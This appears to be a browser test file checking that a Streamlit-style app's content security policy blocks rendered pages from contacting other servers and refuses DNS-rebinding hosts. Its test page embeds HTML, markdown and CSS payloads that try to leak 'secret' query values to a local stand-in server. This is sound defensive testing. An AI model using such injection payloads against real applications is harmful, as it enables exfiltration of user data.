"""Nothing a page shows makes the browser talk to anyone but this app."""

import http.client
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page

from tests.browser import RunningApp, frame_around, open_page, running_app

TRAP = """
import altair as alt
import pandas as pd
import streamlit as st

st.title("An answer that should not be believed")
st.markdown("![x]({elsewhere}/image?q=secret)")
st.markdown('<img src="{elsewhere}/html?q=secret"> <script src="{elsewhere}/js"></script>')
st.html('<img src="{elsewhere}/st-html?q=secret"><link rel="stylesheet" href="{elsewhere}/css">')
st.html('<style>h1 {{ background: url("{elsewhere}/style?q=secret") }}</style>')
st.image("{elsewhere}/st-image?q=secret")
frame = pd.DataFrame({{"mode": ["streaming", "whole"], "seconds": [0.2, 1.1]}})
labelled = alt.Chart(frame).transform_calculate(label="format(datum.seconds, '.1f') + ' s'")
st.altair_chart(labelled.mark_text().encode(x="seconds", y="mode", text="label:N"))
st.dataframe(frame)
st.button("Press", on_click=lambda: st.session_state.update(pressed=True))
if st.session_state.get("pressed"):
    st.markdown("Pressed.")
"""


class Elsewhere:
    """A server that is not the app's, and the paths that were asked of it."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None: ...

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    stranger = Elsewhere()
    yield stranger
    stranger.server.shutdown()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, elsewhere: Elsewhere) -> Iterator[RunningApp]:
    """The app with one page, which tries to leak."""
    trap = TRAP.format(elsewhere=elsewhere.url)
    folder = frame_around(trap, tmp_path_factory.mktemp("trap") / "app")
    with running_app(tmp_path_factory.mktemp("data"), folder) as started:
        yield started


@dataclass(frozen=True, slots=True)
class Visit:
    """The page, opened once, and what the browser said of it."""

    tab: Page
    complaints: list[str]


@pytest.fixture(scope="module")
def visit(browser: Browser, app_url: str) -> Iterator[Visit]:
    context = browser.new_context()
    visited = Visit(context.new_page(), [])
    visited.tab.on("pageerror", lambda error: visited.complaints.append(str(error)))
    visited.tab.on(
        "console",
        lambda said: visited.complaints.append(said.text) if said.type == "error" else None,
    )
    open_page(visited.tab, app_url)
    visited.tab.locator("[data-testid=stVegaLiteChart] svg.marks").wait_for()
    visited.tab.locator("[data-testid=stDataFrame] canvas").first.wait_for()
    yield visited
    context.close()


@pytest.mark.browser
def test_nothing_in_an_answer_makes_the_browser_ask_another_server(
    visit: Visit, elsewhere: Elsewhere
) -> None:
    assert elsewhere.asked == []
    assert any(f"{elsewhere.url}/image" in complaint for complaint in visit.complaints)


@pytest.mark.browser
def test_the_app_itself_works_under_its_own_policy(visit: Visit, elsewhere: Elsewhere) -> None:
    visit.tab.get_by_role("button", name="Press").click()
    visit.tab.get_by_text("Pressed.").wait_for()
    assert [text for text in visit.complaints if elsewhere.url not in text] == []


def test_every_response_carries_the_policy(app: RunningApp) -> None:
    for path in ("/", "/library", "/app/static/icon.svg", "/_stcore/health", "/nothing/here"):
        answer = _get(app, path)
        assert "default-src 'self'" in answer.headers["Content-Security-Policy"], path
        assert answer.headers["X-DNS-Prefetch-Control"] == "off"
        assert answer.headers["Referrer-Policy"] == "no-referrer"


def test_a_host_name_that_is_not_this_machine_is_refused(app: RunningApp) -> None:
    """DNS rebinding: a stranger's page whose name resolves to 127.0.0.1 must not get in."""
    port = app.url.rsplit(":", 1)[1]
    hosts = (f"localhost:{port}", f"rebound.example:{port}")
    assert [_get(app, "/_stcore/stream", handshake(host)).status for host in hosts] == [101, 403]


def handshake(host: str) -> dict[str, str]:
    """What opens a WebSocket."""
    return {
        "Host": host,
        "Connection": "Upgrade",
        "Upgrade": "websocket",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "AAAAAAAAAAAAAAAAAAAAAA==",
    }


def _get(
    app: RunningApp, path: str, headers: dict[str, str] | None = None
) -> http.client.HTTPResponse:
    connection = http.client.HTTPConnection(app.url.removeprefix("http://"), timeout=30)
    connection.request("GET", path, headers=headers or {})
    answer = connection.getresponse()
    connection.close()
    return answer
